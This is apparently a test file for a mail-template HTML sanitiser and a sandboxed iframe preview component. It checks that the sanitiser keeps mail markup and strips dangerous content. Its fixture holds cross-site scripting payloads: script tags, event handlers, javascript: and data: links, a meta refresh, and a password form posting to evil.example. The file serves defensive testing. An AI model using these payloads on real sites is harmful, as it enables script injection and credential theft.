/**
 * Template HTML (issue 11, item 7): one component shows it everywhere, reduced to an allow-list of tags
 * and rendered in a frame sandboxed without any permission, under a policy that loads no script.
 */
import { render, screen } from '@testing-library/react';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import SafeHtml, { frameDocument } from '@/engine/fields/SafeHtml';
import { htmlToText } from '@/engine/fields/htmlText';
import { sanitizeTemplateHtml } from '@/engine/fields/sanitizeHtml';

const HOSTILE = [
  '<p>Hello <strong>there</strong></p>',
  '<script>parent.document.title = "pwned"</script>',
  '<img src="https://cdn.example.com/x.png" onerror="alert(1)">',
  '<style>body { display: none }</style>',
  '<form action="https://evil.example/steal"><input type="password" name="p"><input name="u"><button>Go</button></form>',
  '<a href="javascript:alert(2)">js</a><a href="data:text/html,<script>alert(3)</script>">data</a>',
  '<iframe src="/users"></iframe><object data="x.swf"></object><embed src="x.swf"><svg onload="alert(4)"></svg>',
  '<a href="https://example.com/ok">ok</a><a href="//evil.example/x">proto</a><img src="/\\evil.example/x.png">',
  '<div onclick="alert(5)" style="color: #c62828">red</div><meta http-equiv="refresh" content="0;url=https://evil.example">',
].join('');

/** Sanitised, as a document to query. */
const sanitised = (html: string) => new DOMParser().parseFromString(sanitizeTemplateHtml(html), 'text/html');

describe('sanitizeTemplateHtml', () => {
  // Sanitised in each test (not once while the file is collected), so a sanitiser that throws fails tests.
  let clean = '';
  let doc: Document;
  beforeEach(() => {
    clean = sanitizeTemplateHtml(HOSTILE);
    doc = new DOMParser().parseFromString(clean, 'text/html');
  });

  it('keeps the markup a mail needs', () => {
    expect(doc.querySelector('p strong')?.textContent).toBe('there');
    expect(doc.querySelector('img')?.getAttribute('src')).toBe('https://cdn.example.com/x.png');
    expect(doc.querySelector('a[href="https://example.com/ok"]')?.textContent).toBe('ok');
    expect(doc.querySelector('div')?.getAttribute('style')).toBe('color: #c62828');
  });

  it('keeps every tag and attribute mails are written with', () => {
    const kept = sanitised(`
      <center><h1>One</h1><h2>Two</h2><h3>Three</h3><h4>Four</h4><h5>Five</h5><h6>Six</h6>
      <p><b>b</b> <i>i</i> <u>u</u> <s>s</s> <em>em</em> <small>small</small> <sub>sub</sub> <sup>sup</sup>
        <abbr title="Abbreviation">abbr</abbr> <code>code</code> <font color="#ff0000">font</font> <span>span</span> <strong>strong</strong><br></p>
      <blockquote>quote</blockquote><pre>pre</pre><hr>
      <ul><li>item</li></ul><ol><li>item</li></ol><dl><dt>term</dt><dd>definition</dd></dl>
      <table border="1" cellpadding="2" cellspacing="0" width="600" bgcolor="#eeeeee">
        <caption>caption</caption><colgroup><col width="100"></colgroup>
        <thead><tr><th align="left">head</th></tr></thead>
        <tbody valign="top"><tr bgcolor="#f5f5f5"><td valign="top" colspan="2" rowspan="1" height="20">cell</td></tr></tbody>
        <tfoot><tr><td>foot</td></tr></tfoot>
      </table>
      <div style="color: red"><a href="mailto:team@example.com">mail</a><a href="#top">top</a><a href="http://intranet.example.com/">intranet</a>
        <img src="https://cdn.example.com/logo.png" alt="Logo" width="10" height="10"></div></center>`);
    const tags = [
      'a',
      'abbr',
      'b',
      'blockquote',
      'br',
      'caption',
      'center',
      'code',
      'col',
      'colgroup',
      'dd',
      'div',
      'dl',
      'dt',
      'em',
      'font',
      'h1',
      'h2',
      'h3',
      'h4',
      'h5',
      'h6',
      'hr',
      'i',
      'img',
      'li',
      'ol',
      'p',
      'pre',
      's',
      'small',
      'span',
      'strong',
      'sub',
      'sup',
      'table',
      'tbody',
      'td',
      'tfoot',
      'th',
      'thead',
      'tr',
      'u',
      'ul',
    ];
    for (const tag of tags) expect(kept.querySelector(tag), tag).not.toBeNull();
    const attributes = [
      'href',
      'src',
      'alt',
      'title',
      'width',
      'height',
      'align',
      'valign',
      'colspan',
      'rowspan',
      'style',
      'color',
      'bgcolor',
      'border',
      'cellpadding',
      'cellspacing',
    ];
    for (const name of attributes) expect(kept.querySelector(`[${name}]`), name).not.toBeNull();
    // A row's and a body's own layout (HTML would put back a dropped tbody or tr, without its attributes).
    expect(kept.querySelector('tbody')?.getAttribute('valign')).toBe('top');
    expect(kept.querySelector('tbody tr')?.getAttribute('bgcolor')).toBe('#f5f5f5');
    expect([...kept.querySelectorAll('a')].map((a) => a.getAttribute('href'))).toEqual([
      'mailto:team@example.com',
      '#top',
      'http://intranet.example.com/',
    ]);
  });

  it('drops scripts, style sheets, forms, inputs, frames, objects and event handlers', () => {
    for (const tag of ['script', 'style', 'form', 'input', 'button', 'iframe', 'object', 'embed', 'svg', 'meta']) {
      expect(doc.querySelectorAll(tag), tag).toHaveLength(0);
    }
    expect(clean).not.toMatch(/onerror|onclick|onload|pwned|type="password"/i);
  });

  it('keeps only http(s), mail and console addresses', () => {
    const hrefs = [...doc.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(hrefs.filter((h) => h !== null)).toEqual(['https://example.com/ok']);
    expect(clean).not.toMatch(/javascript:|data:text|evil\.example/);
    const other = sanitised(
      '<a href="ftp://files.example.com/x">ftp</a><a href="custom:thing">custom</a><p data-track="1">p</p>',
    );
    expect([...other.querySelectorAll('a')].map((a) => a.getAttribute('href'))).toEqual([null, null]);
    expect(other.querySelector('p')?.hasAttribute('data-track')).toBe(false);
  });

  it('makes console paths absolute (the frame has no origin) and opens links nowhere', () => {
    const out = sanitised('<img src="/unity/uploads/logo.png"><a href="/signin" target="_self" rel="opener">in</a>');
    expect(out.querySelector('img')?.getAttribute('src')).toBe(`${window.location.origin}/unity/uploads/logo.png`);
    expect(out.querySelector('a')?.getAttribute('href')).toBe(`${window.location.origin}/signin`);
    expect(out.querySelector('a')?.getAttribute('target')).toBe('_blank');
    expect(out.querySelector('a')?.getAttribute('rel')).toBe('noopener noreferrer');
    // Only links: an image has no target.
    expect(out.querySelector('img')?.hasAttribute('target')).toBe(false);
    expect(out.querySelector('img')?.hasAttribute('rel')).toBe(false);
  });

  it('adds its hook to DOMPurify once, not once per call (every hook runs on every node of every later call)', async () => {
    // A fresh module, so that its first call (the one that adds the hook) is made in this test.
    vi.resetModules();
    const purify = (await import('dompurify')).default;
    const fresh = (await import('@/engine/fields/sanitizeHtml')).sanitizeTemplateHtml;
    const addHook = vi.spyOn(purify, 'addHook');
    try {
      const first = new DOMParser().parseFromString(fresh('<a href="/x">x</a>'), 'text/html');
      for (let i = 0; i < 3; i++) fresh('<a href="/x">x</a>');
      expect(addHook).toHaveBeenCalledTimes(1);
      expect(first.querySelector('a')?.getAttribute('target')).toBe('_blank');
    } finally {
      addHook.mockRestore();
    }
  });

  it('gives list cells the text alone', () => {
    expect(htmlToText('<p>Hello <b>you</b></p><script>x()</script>')).toBe('Hello you');
  });
});

describe('SafeHtml', () => {
  it('renders in a frame sandboxed without any permission, its document under a no-script policy', () => {
    render(<SafeHtml html={HOSTILE} title="Description preview" height={200} />);
    const frame = screen.getByTitle('Description preview');
    expect(frame.tagName).toBe('IFRAME');
    expect(frame.getAttribute('sandbox')).toBe('');
    expect(frame.getAttribute('referrerpolicy')).toBe('no-referrer');
    const srcdoc = frame.getAttribute('srcdoc') ?? '';
    const doc = new DOMParser().parseFromString(srcdoc, 'text/html');
    const policy = doc.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '';
    expect(policy).toMatch(/default-src 'none'/);
    expect(policy).not.toMatch(/script-src/);
    // The one style sheet is the frame's own, in the head; the template's is gone.
    expect(doc.querySelectorAll('style')).toHaveLength(1);
    expect(doc.head.contains(doc.querySelector('style'))).toBe(true);
    expect(doc.body.querySelectorAll('script, style, form, input, iframe')).toHaveLength(0);
    expect(doc.body.textContent).toContain('Hello there');
  });

  it('is the same document for the same HTML (the preview and the field show one thing)', () => {
    expect(frameDocument('<p>a</p>')).toBe(frameDocument('<p>a</p>'));
    expect(frameDocument(undefined)).toContain('<body></body>');
  });
});
